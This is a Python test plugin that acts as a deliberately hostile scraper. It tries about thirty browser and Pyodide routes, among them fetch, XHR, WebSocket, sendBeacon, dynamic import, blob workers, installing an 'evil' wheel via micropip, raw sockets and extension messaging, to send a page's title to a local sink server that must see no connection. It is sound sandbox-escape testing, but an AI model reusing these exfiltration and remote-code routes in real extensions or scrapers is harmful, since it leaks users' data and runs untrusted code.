"""A hostile scraper: tries every way out of the browser it can reach from Python.

The page it scrapes names the sink in its URL (``?sink=http://127.0.0.1:PORT``),
a recording server that must see no connection at all. The scrape itself must
still succeed: the plugin yields one record per route with what happened.
Promises settle after the scrape returns, so their outcomes are kept in this
module (the Python host caches a plugin's module between runs) and yielded as
``phase: "async"`` records by the next scrape.
"""

NAME = "exfiltrate"
VERSION = "1.0.0"
MATCHES = ["*://127.0.0.1/*"]
TIMEOUT = 20

LATE = {}  # route -> outcome of what settled after the previous run returned
KEEP = []  # proxies that must outlive the run


def _describe(exc):
    return f"{type(exc).__name__}: {str(exc).splitlines()[0] if str(exc) else ''}"[:200]


def scrape(page):
    import asyncio
    from urllib.parse import parse_qs, urlsplit

    import js
    from pyodide.ffi import create_proxy, to_js

    query = parse_qs(urlsplit(page.url).query)
    sink = query["sink"][0]
    only = set(query.get("only", [])) or None  # ?only=fetch&only=websocket runs just those
    secret = page.title
    results = []

    def attempt(route, action):
        if only and route not in only:
            return
        try:
            value = action()
        except BaseException as exc:  # noqa: BLE001  (KeyboardInterrupt aside, everything is an outcome)
            if isinstance(exc, KeyboardInterrupt):
                raise
            missing = isinstance(exc, (AttributeError, ModuleNotFoundError, ImportError))
            results.append({"route": route, "phase": "sync", "status": "unavailable" if missing else "blocked", "outcome": _describe(exc)})
            return
        results.append({"route": route, "phase": "sync", "status": "started", "outcome": str(type(value).__name__)})

    def later(route, promise):
        def resolved(value):
            LATE[route] = ("resolved", str(value)[:200])

        def rejected(error):
            LATE[route] = ("rejected", str(error)[:200])

        done, failed = create_proxy(resolved), create_proxy(rejected)
        KEEP.extend([done, failed])
        promise.then(done, failed)
        return promise

    def on_events(route, target, *events):
        for event in events:
            def handler(e, event=event):
                LATE[route] = ("rejected" if event == "error" else "resolved", f"{event} event")

            proxy = create_proxy(handler)
            KEEP.append(proxy)
            target.addEventListener(event, proxy)
        return target

    def navigator():
        # Reflect.get calls the getter on the worker's global itself. Firefox
        # refuses every getter of the worker's global called from Python; its
        # prototype then shows whether the member exists at all (a sealed or
        # missing one raises AttributeError).
        try:
            return js.Reflect.get(js.globalThis, "navigator")
        except Exception:  # noqa: BLE001
            return js.WorkerNavigator.prototype

    def options(**kw):
        return to_js(kw, dict_converter=js.Object.fromEntries)

    attempt("fetch", lambda: later("fetch", js.fetch(f"{sink}/fetch?d={secret}")))
    attempt("fetch-no-cors-keepalive-post", lambda: later(
        "fetch-no-cors-keepalive-post",
        js.fetch(f"{sink}/beacon", options(method="POST", mode="no-cors", keepalive=True, body=secret)),
    ))

    def xhr(asynchronous):
        request = js.XMLHttpRequest.new()
        request.open("POST", f"{sink}/xhr", asynchronous)
        if asynchronous:
            on_events("xhr-async", request, "load", "error")
        request.send(secret)
        return request.status

    attempt("xhr-sync", lambda: xhr(False))
    attempt("xhr-async", lambda: xhr(True))

    def system_xhr():
        # Firefox's privileged cross-origin XHR (Chromium ignores the options).
        request = js.XMLHttpRequest.new(options(mozSystem=True, mozAnon=True))
        request.open("POST", f"{sink}/system-xhr", True)
        on_events("xhr-mozSystem", request, "load", "error")
        request.send(secret)
        return request.status

    attempt("xhr-mozSystem", system_xhr)
    attempt("websocket", lambda: on_events("websocket", js.WebSocket.new(sink.replace("http", "ws") + "/ws"), "open", "error"))
    attempt("eventsource", lambda: on_events("eventsource", js.EventSource.new(f"{sink}/events"), "open", "error"))
    attempt("sendBeacon", lambda: navigator().sendBeacon(f"{sink}/beacon", secret))
    attempt("importScripts", lambda: js.importScripts(f"{sink}/script.js"))
    attempt("eval-dynamic-import", lambda: later("eval-dynamic-import", js.eval(f"import('{sink}/module.js')")))
    attempt("Function-constructor", lambda: js.Function.new(f"return import('{sink}/module.js')")())

    def run_js():
        from pyodide.code import run_js as run

        return later("pyodide-run_js", run(f"import('{sink}/module.js')"))

    attempt("pyodide-run_js", run_js)
    attempt("nested-worker", lambda: js.Worker.new(f"{sink}/worker.js"))

    def blob_worker():
        blob = js.Blob.new(to_js([f"fetch('{sink}/from-blob-worker')"]), options(type="text/javascript"))
        return js.Worker.new(js.URL.createObjectURL(blob))

    attempt("blob-worker", blob_worker)
    attempt("FontFace", lambda: later("FontFace", js.FontFace.new("probe", f"url({sink}/font.woff2)").load()))
    attempt("WebTransport", lambda: later("WebTransport", js.WebTransport.new(f"https://127.0.0.1:{urlsplit(sink).port}/wt").ready))

    def pyfetch():
        from pyodide.http import pyfetch as fetch

        task = asyncio.ensure_future(fetch(f"{sink}/pyfetch"))
        task.add_done_callback(lambda t: LATE.__setitem__("pyfetch", ("rejected", _describe(t.exception())) if t.exception() else ("resolved", str(t.result().status))))
        KEEP.append(task)
        return task

    attempt("pyfetch", pyfetch)

    def open_url():
        from pyodide.http import open_url as fetch_sync

        return fetch_sync(f"{sink}/open_url").read()

    attempt("pyodide-open_url", open_url)

    def load_package():
        import pyodide_js

        return later("loadPackage", pyodide_js.loadPackage(f"{sink}/evil-1.0-py3-none-any.whl"))

    attempt("loadPackage", load_package)

    def micropip():
        import micropip as installer

        return later("micropip", installer.install(f"{sink}/evil-1.0-py3-none-any.whl"))

    attempt("micropip", micropip)

    def urllib_request():
        import urllib.request

        return urllib.request.urlopen(f"{sink}/urllib", timeout=2).read()

    attempt("urllib", urllib_request)

    def raw_socket():
        import socket

        return socket.create_connection(("127.0.0.1", int(urlsplit(sink).port)), timeout=2)

    attempt("socket", raw_socket)
    attempt("chrome.runtime.sendMessage", lambda: later("chrome.runtime.sendMessage", js.chrome.runtime.sendMessage(options(target="service-worker", name="GetLastRun", payload=options(tabId=1)))))
    attempt("browser.runtime", lambda: js.browser.runtime.getURL(""))
    attempt("navigator.serviceWorker", lambda: navigator().serviceWorker.controller)
    attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("gleaner").postMessage(secret))
    attempt("indexedDB", lambda: js.indexedDB.open("gleaner-probe"))
    attempt("caches", lambda: later("caches", js.caches.keys()))
    attempt("navigator.storage-OPFS", lambda: later("navigator.storage-OPFS", navigator().storage.getDirectory()))

    for route, (status, outcome) in sorted(LATE.items()):
        results.append({"route": route, "phase": "async", "status": status, "outcome": outcome})
    LATE.clear()
    return results
